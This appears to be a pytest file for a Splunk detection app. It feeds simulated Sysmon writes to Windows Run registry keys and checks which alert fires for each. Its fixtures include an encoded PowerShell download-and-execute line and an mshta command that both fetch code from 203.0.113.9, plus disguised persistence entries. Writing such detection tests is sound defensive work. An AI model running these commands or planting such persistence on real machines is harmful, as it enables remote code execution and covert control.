"""Each kind of write is told by one alert on writes at the most, as README/alerts.md says."""

from __future__ import annotations

import base64
from collections.abc import Mapping

import pytest

from tests.minisplunk.kvstore import KvStore
from tests.minisplunk.splunk import Splunk
from tests.minisplunk.values import printed
from tests.site.simulation.hosts import host
from tests.site.simulation.moments import HOUR, at
from tests.site.simulation.planted import CRITICAL, HIDDEN, HIGH, KNOWN_NAME, REMOVED
from tests.site.simulation.plots_of_run_keys import REG
from tests.site.simulation.processes import Process, desktop
from tests.site.simulation.rendering import indexed
from tests.site.simulation.sysmon import SysmonEvent, changed, set_value
from tests.splunk_app.conftest import SUNDAY_MIDNIGHT, Start
from tests.splunk_app.test_alerts_of_the_week import FIRST_SEEN, STORED
from tools.generate.searches.prevalence import MARK

ON_WRITES = (CRITICAL, HIGH, KNOWN_NAME, HIDDEN, REMOVED, FIRST_SEEN, STORED)
HKLM = r"HKLM\SOFTWARE\Microsoft"
RUN = rf"{HKLM}\Windows\CurrentVersion\Run"
SETUP, TEMP = r"C:\Program Files\Till\setup.exe", r"C:\Users\Public\setup.exe"
ENCODED_PROGRAM = base64.b64encode(
    ('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a");' * 3).encode("utf-16-le")
).decode()
TILL = r'"C:\Program Files\Till\till.exe"'


def by(image: str) -> Process:
    return desktop(host(31), "Sat").start_at(at("Sat 16:00"), image)


def wrote(image: str, path: str, data: str) -> SysmonEvent:
    return set_value(by(image), 0.1, path, data)


def removed(image: str, path: str) -> SysmonEvent:
    return changed("DeleteValue", by(image), 0.1, path)


# What is written, and which alert tells it.
KINDS: Mapping[str, tuple[SysmonEvent, str]] = {
    "a plain program": (wrote(SETUP, rf"{RUN}\Till", TILL), FIRST_SEEN),
    "60 to 79": (wrote(TEMP, rf"{RUN}\Till", r"C:\Users\Public\till.exe"), HIGH),
    "80 and more": (wrote(REG, rf"{RUN}\Till", "mshta http://203.0.113.9/a.hta"), CRITICAL),
    "a known name, below 60": (wrote(SETUP, rf"{RUN}\SecurityHealth", TILL), KNOWN_NAME),
    "a known name, from 60 on": (wrote(TEMP, rf"{RUN}\SecurityHealth", r"C:\Users\Public\till.exe"), CRITICAL),
    "a hidden name, below 60": (wrote(SETUP, f"{RUN}\\Ti\u200bll", TILL), HIDDEN),
    "an encoded program beside words of a location": (
        wrote(REG, rf"{HKLM}\Windows\CurrentVersion\Control Panel\Run\Cache", ENCODED_PROGRAM),
        STORED,
    ),
    "known good": (wrote(SETUP, rf"{RUN}\SecurityHealth", r"%windir%\system32\SecurityHealthSystray.exe"), ""),
    "a security product removed by hand": (removed(REG, rf"{RUN}\SecurityHealth"), REMOVED),
    "a security product removed by anybody": (removed(TEMP, rf"{RUN}\SecurityHealth"), REMOVED),
    "a known product removed by hand": (removed(REG, rf"{RUN}\Spotify"), REMOVED),
    "a known product cleared by hand": (wrote(REG, rf"{RUN}\spotify", ""), REMOVED),
    "a known product removed by its setup": (removed(SETUP, rf"{RUN}\Spotify"), ""),
    "a known product's name in another place": (removed(REG, rf"{RUN}Once\Spotify"), ""),
    "an unknown product removed by hand": (removed(REG, rf"{RUN}\Till"), ""),
    # Windows' own components have a row each whose name stands for any.
    "an unknown component removed by hand": (
        removed(REG, rf"{HKLM}\Active Setup\Installed Components\{{1F3A0A6C-0000-4C1B-9C5B-000000000000}}\StubPath"),
        "",
    ),
}


def learned() -> KvStore:
    """Give a store that has learned for a month, and knows no entry."""
    store = KvStore()
    since, until = (printed(SUNDAY_MIDNIGHT - hours * HOUR) for hours in (30 * 24, 0))
    store.records("runkeyhunt", "runkeyhunt_entries")[MARK] = {"first_seen": since, "last_seen": until}
    return store


@pytest.mark.parametrize("kind", KINDS)
def test_a_write_is_told_by_the_alert_for_its_kind_alone(start_splunk: Start, splunk: Splunk, kind: str) -> None:
    event, alert = KINDS[kind]
    site = start_splunk(learned(), shares=[[indexed(event, 1)]])
    site.event_fields = splunk.event_fields
    searches = site.commands.app.saved_searches()
    found = {name: site.search(searches[name]["search"], SUNDAY_MIDNIGHT, "-7d@d", "now") for name in ON_WRITES}
    assert {name: len(rows) for name, rows in found.items() if rows} == ({alert: 1} if alert else {})
